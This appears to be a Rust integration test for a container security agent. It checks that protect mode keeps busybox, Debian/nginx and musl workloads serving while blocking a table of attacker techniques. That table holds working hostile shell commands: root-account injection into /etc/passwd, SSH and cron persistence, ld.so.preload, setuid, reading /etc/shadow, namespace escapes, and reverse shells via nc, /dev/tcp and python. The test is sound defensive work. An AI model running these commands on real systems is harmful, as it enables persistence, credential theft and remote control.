//! Protect mode on real workloads, as root, with real podman containers of
//! three images: busybox-static httpd, a glibc Debian image running nginx
//! (with curl and python3), and a musl dynamic program. Each workload is
//! started before the agent, learned under traffic and a shell health
//! check, and promoted to protect. Then: the learned checks still run, the
//! service serves, a restart serves, a second replica serves; and attacker
//! techniques run through the learned shell are each refused or killed
//! before their payload runs, with an alert naming the container. Every
//! legitimate request and health check made is counted; one refused fails
//! the test. The technique × image table is printed (and kept in the
//! README).

mod common;

use common::*;
use std::collections::BTreeMap;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

struct Image {
    key: &'static str,
    image: &'static str,
    /// The command, when not the image's own.
    cmd: &'static [&'static str],
    port: u16,
    /// Shell health checks an operator runs with `podman exec … sh -c`.
    health: &'static [&'static str],
    /// A directory the workload writes (learned), where an attacker can
    /// drop files; None when it writes nowhere.
    writable: Option<&'static str>,
}

const IMAGES: [Image; 3] = [
    Image {
        key: "busybox",
        image: "localhost/lancet-busybox:test",
        cmd: &["httpd", "-f", "-p", "80", "-h", "/www"],
        port: 80,
        health: &["wget -q -O - http://127.0.0.1:80/ >/dev/null"],
        writable: None,
    },
    Image {
        key: "debian",
        image: "localhost/lancet-debian:test",
        cmd: &[],
        port: 80,
        health: &["curl -fsS http://127.0.0.1/ >/dev/null", "python3 -c 'import os; os.getpid()'"],
        writable: Some("/var/log/nginx"),
    },
    Image {
        key: "musl",
        image: "localhost/lancet-musl:test",
        cmd: &[],
        port: 8080,
        health: &["wget -q -O - http://127.0.0.1:8080/ >/dev/null"],
        writable: None,
    },
];

/// One attacker technique: its shell command per image (`{W}` is a
/// writable directory of the workload, `{PEER}` another container's
/// address; None where the image lacks what it needs). The command prints
/// PAYLOAD only if the payload ran.
struct Technique {
    name: &'static str,
    busybox: Option<&'static str>,
    debian: Option<&'static str>,
    musl: Option<&'static str>,
}

/// The musl image carries busybox's userland: the same command as busybox.
const fn t(name: &'static str, busybox: Option<&'static str>, debian: Option<&'static str>) -> Technique {
    Technique { name, busybox, debian, musl: busybox }
}

const fn t3(name: &'static str, busybox: Option<&'static str>, debian: Option<&'static str>, musl: Option<&'static str>) -> Technique {
    Technique { name, busybox, debian, musl }
}

const PY_CONNECT: &str = "python3 -c \"import socket,sys\ns=socket.socket()\ntry:\n  s.connect(('{PEER}',4444))\nexcept PermissionError:\n  sys.exit(13)\nexcept OSError:\n  pass\nprint('PAYLOAD')\"";

const TECHNIQUES: &[Technique] = &[
    t("write /etc/passwd", Some("echo 'x::0:0::/:/bin/sh' >> /etc/passwd && echo PAYLOAD"), Some("echo 'x::0:0::/:/bin/sh' >> /etc/passwd && echo PAYLOAD")),
    t("new file in /bin", Some("echo x > /bin/evil && echo PAYLOAD"), Some("echo x > /usr/bin/evil && echo PAYLOAD")),
    t("mkdir in /bin", Some("mkdir /bin/x && echo PAYLOAD"), Some("mkdir /usr/bin/x && echo PAYLOAD")),
    t("copy a binary into /bin", Some("cp /bin/busybox /bin/x && echo PAYLOAD"), Some("cp /bin/ls /usr/bin/x && echo PAYLOAD")),
    t("cron entry", Some("echo '* * * * * root id' > /etc/crontab && echo PAYLOAD"), Some("echo '* * * * * root id' > /etc/crontab && echo PAYLOAD")),
    t("ssh authorized_keys", Some("mkdir -p /root/.ssh; echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys && echo PAYLOAD"), Some("mkdir -p /root/.ssh; echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys && echo PAYLOAD")),
    t("new file under /dev", Some("echo x > /dev/evil && echo PAYLOAD"), Some("echo x > /dev/evil && echo PAYLOAD")),
    t("shell start-up file", Some("echo id >> /root/.profile && echo PAYLOAD"), Some("echo id >> /root/.bashrc && echo PAYLOAD")),
    t("loader preload", Some("echo /tmp/x.so > /etc/ld.so.preload && echo PAYLOAD"), Some("echo /tmp/x.so > /etc/ld.so.preload && echo PAYLOAD")),
    t("setuid bit", Some("chmod u+s /bin/busybox && echo PAYLOAD"), Some("chmod u+s /usr/bin/curl && echo PAYLOAD")),
    t("read /etc/shadow", Some("read -r l < /etc/shadow && echo PAYLOAD"), Some("read -r l < /etc/shadow && echo PAYLOAD")),
    t("delete history, accounts", Some("rm -f /root/.ash_history /etc/passwd /etc/shadow && echo PAYLOAD"), Some("rm -f /root/.bash_history /etc/passwd && echo PAYLOAD")),
    t("drop a binary and run it", Some("cp /bin/busybox /tmp/x && /tmp/x echo PAYLOAD"), Some("cp /bin/echo /tmp/x && /tmp/x PAYLOAD")),
    t("drop a script, chmod +x, run", Some("printf '#!/bin/sh\\necho PAYLOAD\\n' > {W}/s && chmod +x {W}/s && {W}/s"), Some("printf '#!/bin/sh\\necho PAYLOAD\\n' > {W}/s && chmod +x {W}/s && {W}/s")),
    t("script handed to sh", Some("printf 'echo PAYLOAD\\n' > {W}/s.sh && sh {W}/s.sh"), Some("printf 'echo PAYLOAD\\n' > {W}/s.sh && sh {W}/s.sh")),
    t("script handed to python", None, Some("printf 'print(\"PAYLOAD\")\\n' > {W}/x.py && python3 {W}/x.py")),
    t("binary written by python, run", None, Some("python3 -c \"import os,shutil; shutil.copy('/bin/echo','{W}/e'); os.chmod('{W}/e',0o755)\" && {W}/e PAYLOAD")),
    t(
        "run from a path longer than PATH_MAX",
        None,
        Some("python3 -c \"import os,shutil\nos.chdir('{W}')\nfor i in range(40):\n  os.mkdir('d'*120); os.chdir('d'*120)\nshutil.copy('/bin/echo','e'); os.chmod('e',0o755)\nos.execv('./e',['e','PAYLOAD'])\""),
    ),
    t("run from /dev/shm", Some("cp /bin/busybox /dev/shm/x && /dev/shm/x echo PAYLOAD"), Some("cp /bin/echo /dev/shm/x && /dev/shm/x PAYLOAD")),
    t3("memfd exec", Some("/usr/local/bin/memfd-exec /bin/busybox echo PAYLOAD"), Some("python3 -c \"import os; fd=os.memfd_create('x'); os.write(fd, open('/bin/echo','rb').read()); os.execv('/proc/self/fd/%d' % fd, ['x','PAYLOAD'])\""), None),
    t3(
        "ELF loader runs a program",
        Some("/lib64/ld-linux-x86-64.so.2 /usr/bin/true-dyn && echo PAYLOAD"),
        Some("/lib64/ld-linux-x86-64.so.2 /bin/echo PAYLOAD"),
        Some("/lib/ld-musl-x86_64.so.1 --list /usr/local/bin/musl-httpd && echo PAYLOAD"),
    ),
    t("applet under another name", Some("busybox echo PAYLOAD"), Some("dash -c 'echo PAYLOAD'")),
    t("unshare -U -r", Some("unshare -U -r id && echo PAYLOAD"), Some("unshare -U -r id && echo PAYLOAD")),
    t("nsenter", Some("nsenter -t 1 -m id && echo PAYLOAD"), Some("nsenter -t 1 -m id && echo PAYLOAD")),
    t("mount", Some("mount -t tmpfs x /mnt && echo PAYLOAD"), Some("mount -t tmpfs x /mnt && echo PAYLOAD")),
    t("chroot", Some("chroot / id && echo PAYLOAD"), Some("chroot / id && echo PAYLOAD")),
    t("reverse shell with nc", Some("nc {PEER} 4444 -e /bin/sh && echo PAYLOAD"), None),
    t("reverse shell with bash /dev/tcp", None, Some("bash -c 'exec 3<>/dev/tcp/{PEER}/4444' && echo PAYLOAD")),
    t("reverse shell with python", None, Some(PY_CONNECT)),
    t("download with a learned tool", Some("out=$(wget -q -O - http://{PEER}:4444/x 2>&1); echo \"$out\"; case \"$out\" in *refused*) echo PAYLOAD;; esac"), Some("out=$(curl -sS -o /dev/null http://{PEER}:4444/x 2>&1); echo \"$out\"; case \"$out\" in *refused*) echo PAYLOAD;; esac")),
    t("new listening port (nc)", Some("nc -l -p 4444 && echo PAYLOAD"), None),
    t("new listening port (python)", None, Some("python3 -c \"import socket; s=socket.socket(); s.bind(('0.0.0.0',4444)); s.listen(); print('PAYLOAD')\"")),
    t("python http.server", None, Some("timeout 2 python3 -m http.server 4445; [ $? -eq 124 ] && echo PAYLOAD")),
    t("UDP send", Some("echo x | nc -u -w1 {PEER} 5353 && echo PAYLOAD"), Some("python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('{PEER}', 5353)); print('PAYLOAD')\"")),
    t("package manager", None, Some("apt-get install -y netcat-openbsd && echo PAYLOAD")),
    t("dpkg", None, Some("dpkg --force-all -r nginx-light && echo PAYLOAD")),
];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Outcome {
    Refused,
    Killed,
    Missed,
}

impl std::fmt::Display for Outcome {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(match self {
            Outcome::Refused => "refused",
            Outcome::Killed => "killed",
            Outcome::Missed => "MISSED",
        })
    }
}

fn classify(o: &std::process::Output) -> Outcome {
    let text = out_text(o);
    if text.contains("PAYLOAD") {
        Outcome::Missed
    } else if text.contains("Killed") || o.status.code() == Some(137) {
        Outcome::Killed
    } else {
        Outcome::Refused
    }
}

/// A workload container and its replica, removed by id on drop.
struct Workload {
    img: &'static Image,
    main: Container,
    replica: Option<Container>,
}

impl Workload {
    fn start(img: &'static Image, net: &str, hooks: &Path) -> Workload {
        let name = unique(&format!("lancet-m-{}", img.key));
        let mut args = vec!["run", "-d", "--name", &name, "--network", net, img.image];
        args.extend_from_slice(img.cmd);
        let o = podman_h(hooks, &args);
        assert!(o.status.success(), "podman run {}: {}", img.image, out_text(&o));
        let id = String::from_utf8_lossy(&o.stdout).trim().to_string();
        Workload { img, main: Container { id, name }, replica: None }
    }

    fn ip(&self) -> String {
        self.main.ip()
    }
}

/// Counts legitimate requests and health checks, and which failed (with
/// the container's alerts from around then, to say why).
#[derive(Default)]
struct Legit {
    made: usize,
    failed: Vec<String>,
    alerts: Option<std::path::PathBuf>,
}

impl Legit {
    /// The last alerts naming the container, for a failure report.
    fn alerts_about(&self, name: &str) -> String {
        let Some(path) = &self.alerts else { return String::new() };
        let (all, _) = alerts_since(path, 0);
        let mine: Vec<String> = all
            .iter()
            .filter(|a| a["output_fields"]["container.name"] == name)
            .map(|a| a["output"].as_str().unwrap_or("").to_string())
            .collect();
        mine[mine.len().saturating_sub(5)..].join("\n    ")
    }
}

impl Legit {
    fn request(&mut self, what: &str, ip: &str, port: u16) {
        self.made += 1;
        // A container just started may need a moment to listen.
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            match http_get(ip, port) {
                Ok(()) => return,
                Err(e) if Instant::now() >= deadline => {
                    self.failed.push(format!("{what}: request to {ip}:{port}: {e}"));
                    return;
                }
                Err(_) => std::thread::sleep(Duration::from_millis(200)),
            }
        }
    }

    fn health(&mut self, what: &str, c: &Container, check: &str) {
        self.made += 1;
        let o = c.exec(&["sh", "-c", check]);
        if !o.status.success() {
            let why = self.alerts_about(&c.name);
            self.failed.push(format!("{what}: health check {check:?} in {}: {} {}\n  alerts:\n    {why}", c.name, o.status, out_text(&o)));
        }
    }

    fn serve_and_check(&mut self, what: &str, w: &Workload, c: &Container) {
        self.request(what, &c.ip(), w.img.port);
        for h in w.img.health {
            self.health(what, c, h);
        }
    }
}

#[test]
fn protect_mode_keeps_real_workloads_serving_and_refuses_attacker_techniques() {
    skip_unless_ready!(true);
    for img in &IMAGES {
        if !Command::new("podman").args(["image", "exists", img.image]).status().map(|s| s.success()).unwrap_or(false) {
            lancet_testkit::skip(&format!("test image {} missing (scripts/setup.sh builds it)", img.image));
            return;
        }
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let (state, policies, alerts) = agent_dirs(dir.path());
    let hooks = dir.path().join("hooks.d");
    std::fs::create_dir_all(&hooks).unwrap();
    let net = Network::create(&unique("lancet-m-net"));
    let peer = Container::start(&unique("lancet-m-peer"), &["--network", &net.0], &["sleep", "3600"]);
    let peer_ip = peer.ip();
    let mut legit = Legit { alerts: Some(alerts.clone()), ..Legit::default() };

    // The workloads run before the agent starts.
    let mut workloads: Vec<Workload> = IMAGES.iter().map(|img| Workload::start(img, &net.0, &hooks)).collect();
    for w in &workloads {
        legit.request("before the agent", &w.ip(), w.img.port);
    }
    // A one-second dedupe window: each technique gets its own alert even
    // when it repeats an earlier refusal (the same tool refused again).
    // The techniques run through the learned shell, approved whatever code
    // it is handed, so that what lies under it is what is measured
    // (volume_drift_root tests the shell judged with its code).
    let agent = Agent::start_with_config(&state, &policies, &alerts, "dedupeWindow: 1s\ninterpreterCode: any\n", &[]);
    let out = agent.cli(&["hook", "install", "--dir", hooks.to_str().unwrap()]);
    assert!(out.contains("lancet.json"), "{out}");

    // Learn under traffic and the health checks.
    for round in 0..3 {
        for w in &workloads {
            legit.serve_and_check(&format!("learning round {round}"), w, &w.main);
        }
    }
    std::thread::sleep(Duration::from_millis(1500));
    for w in &workloads {
        let dry = agent.cli_output(&["profile", "promote", &w.main.name, "--to", "protect", "--dry-run"]);
        eprintln!("dry run for {}:\n{}", w.img.key, out_text(&dry));
        let out = agent.cli(&["profile", "promote", &w.main.name, "--to", "protect"]);
        assert!(out.contains("protect"), "{out}");
    }
    for w in &workloads {
        agent.wait_guarded(&w.main.id, Duration::from_secs(15));
        legit.serve_and_check("protected", w, &w.main);
    }

    // Lifecycle: restart, a second replica.
    for w in &mut workloads {
        let o = podman_h(&hooks, &["restart", "-t", "2", &w.main.id]);
        assert!(o.status.success(), "podman restart {}: {}", w.main.name, out_text(&o));
        agent.wait_guarded(&w.main.id, Duration::from_secs(15));
        legit.serve_and_check("after restart", w, &w.main);
        let name = unique(&format!("lancet-m-{}-2", w.img.key));
        let mut args = vec!["run", "-d", "--name", &name, "--network", &net.0, w.img.image];
        args.extend_from_slice(w.img.cmd);
        let o = podman_h(&hooks, &args);
        assert!(o.status.success(), "second replica of {}: {}", w.img.image, out_text(&o));
        let replica = Container { id: String::from_utf8_lossy(&o.stdout).trim().to_string(), name };
        agent.wait_guarded(&replica.id, Duration::from_secs(15));
        legit.serve_and_check("second replica", w, &replica);
        w.replica = Some(replica);
    }

    // Attacker techniques through the learned shell.
    let mut table: BTreeMap<&str, BTreeMap<&str, String>> = BTreeMap::new();
    let mut missed = Vec::new();
    let mut unalerted = Vec::new();
    let (_, mut pos) = alerts_since(&alerts, 0);
    for tech in TECHNIQUES {
        for w in &workloads {
            let cmd = match w.img.key {
                "debian" => tech.debian,
                "musl" => tech.musl,
                _ => tech.busybox,
            };
            let Some(cmd) = cmd else {
                table.entry(tech.name).or_default().insert(w.img.key, "n/a".into());
                continue;
            };
            let cmd = cmd.replace("{W}", w.img.writable.unwrap_or("/tmp")).replace("{PEER}", &peer_ip);
            // Past the dedupe window of the previous technique's alerts.
            std::thread::sleep(Duration::from_millis(1100));
            let o = w.main.exec(&["sh", "-c", &cmd]);
            // A technique whose tool the image lacks would count as refused:
            // it has to be marked n/a instead.
            assert_ne!(o.status.code(), Some(127), "{} on {}: a command is missing: {}", tech.name, w.img.key, out_text(&o));
            let outcome = classify(&o);
            let (new, next) = wait_alerts(&alerts, pos, Duration::from_secs(3), Duration::from_millis(300));
            pos = next;
            let named = new.iter().any(|a| a["output_fields"]["container.name"] == w.main.name.as_str());
            if outcome == Outcome::Missed {
                missed.push(format!("{} on {}: {}", tech.name, w.img.key, out_text(&o).trim()));
            } else if !named {
                unalerted.push(format!("{} on {} ({outcome}): {}", tech.name, w.img.key, out_text(&o).trim()));
            }
            table.entry(tech.name).or_default().insert(w.img.key, outcome.to_string());
        }
    }
    // The workloads serve on after all of it.
    for w in &workloads {
        legit.serve_and_check("after the attacks", w, &w.main);
        if let Some(r) = &w.replica {
            legit.serve_and_check("replica after the attacks", w, r);
        }
    }

    println!("\n| technique | busybox | debian (glibc) | musl |\n|---|---|---|---|");
    for tech in TECHNIQUES {
        let row = &table[tech.name];
        println!("| {} | {} | {} | {} |", tech.name, row["busybox"], row["debian"], row["musl"]);
    }
    println!("\nlegitimate requests and health checks: {} made, {} refused", legit.made, legit.failed.len());
    assert!(legit.failed.is_empty(), "legitimate requests refused:\n{}", legit.failed.join("\n"));
    assert!(missed.is_empty(), "techniques that ran their payload:\n{}", missed.join("\n"));
    assert!(unalerted.is_empty(), "techniques without an alert naming the container:\n{}", unalerted.join("\n"));
    drop(workloads);
    drop(peer);
}
